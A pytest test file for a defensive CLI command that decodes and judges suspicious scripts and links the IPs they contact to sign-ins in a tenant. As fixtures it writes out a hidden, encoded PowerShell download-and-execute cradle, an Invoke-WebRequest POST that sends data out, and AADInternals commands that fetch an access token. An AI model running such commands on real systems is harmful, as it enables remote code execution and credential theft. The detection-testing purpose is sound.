"""`idpilot script`: a file or stdin analysed, linked to the tenant, refusals with exit 2."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

import idpilot.cli.script  # noqa: F401  (registers the command)
from idpilot.cli.app import app
from idpilot.store import Store
from tests.fixture_tenant import store_ingested_through_cli


@pytest.fixture(scope="module")
def store_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The fixture tenant ingested through the command."""
    return store_ingested_through_cli(tmp_path_factory.mktemp("script"))


@pytest.fixture(scope="module")
def ip(store_path: Path) -> str:
    """The IP most sign-ins of the fixture tenant came from."""
    store = Store.open(store_path, read_only=True)
    try:
        row = store.con.execute(
            "SELECT ipAddress FROM signIns GROUP BY 1 ORDER BY count(*) DESC, 1 LIMIT 1"
        ).fetchone()
    finally:
        store.close()
    assert row is not None
    return str(row[0])


def test_an_encoded_command_file_is_decoded_judged_and_linked_to_the_tenant(
    store_path: Path, ip: str, tmp_path: Path
) -> None:
    payload = f"IEX (New-Object Net.WebClient).DownloadString('http://{ip}/a.ps1')"
    blob = base64.b64encode(payload.encode("utf-16-le")).decode()
    script = tmp_path / "run.cmd"
    script.write_text(f"powershell -nop -w hidden -enc {blob}\n")
    result = CliRunner().invoke(app, ["script", str(script), "--store", str(store_path), "--json"])
    assert result.exit_code == 0, result.output
    document = json.loads(result.output)
    facts = document["facts"]
    assert facts["analysis"]["verdict"] == "malicious"
    assert facts["analysis"]["decoded"] == payload
    assert [layer["kind"] for layer in facts["analysis"]["layers"]] == ["encodedCommand"]
    assert facts["tenant"][0]["kind"] == "ip" and facts["tenant"][0]["value"] == ip
    assert document["evidence"][0]["kind"] == "signIn"


def test_stdin_is_read_and_the_text_output_cites_the_sign_in(store_path: Path, ip: str) -> None:
    result = CliRunner().invoke(
        app,
        ["script", "-", "--name", "x.ps1", "--store", str(store_path)],
        input=f"Invoke-WebRequest -Uri http://{ip}/x -Method Post -Body $t\n",
    )
    assert result.exit_code == 0, result.output
    assert "Verdict: suspicious" in result.output
    assert "the IP this script contacts signed in as" in result.output
    assert "[1] signIn" in result.output


def test_without_the_tenant_the_analysis_says_it_was_not_checked(tmp_path: Path) -> None:
    script = tmp_path / "a.ps1"
    script.write_text("Import-Module AADInternals\nGet-AADIntAccessTokenForMSGraph\n")
    result = CliRunner().invoke(app, ["script", str(script), "--no-tenant"])
    assert result.exit_code == 0, result.output
    assert "Verdict: malicious" in result.output and "Not checked" in result.output


def test_binary_and_missing_input_exit_2_with_the_reason(tmp_path: Path) -> None:
    binary = tmp_path / "tool.exe"
    binary.write_bytes(b"MZ" + bytes(500))
    result = CliRunner().invoke(app, ["script", str(binary), "--no-tenant"])
    assert result.exit_code == 2
    assert "a Windows executable" in result.output
    result = CliRunner().invoke(app, ["script", str(tmp_path / "nope.ps1"), "--no-tenant"])
    assert result.exit_code == 2 and "no such file" in result.output
    result = CliRunner().invoke(app, ["script", str(binary), "--no-tenant", "--json"])
    assert json.loads(result.output)["error"]["code"] == "script_input"
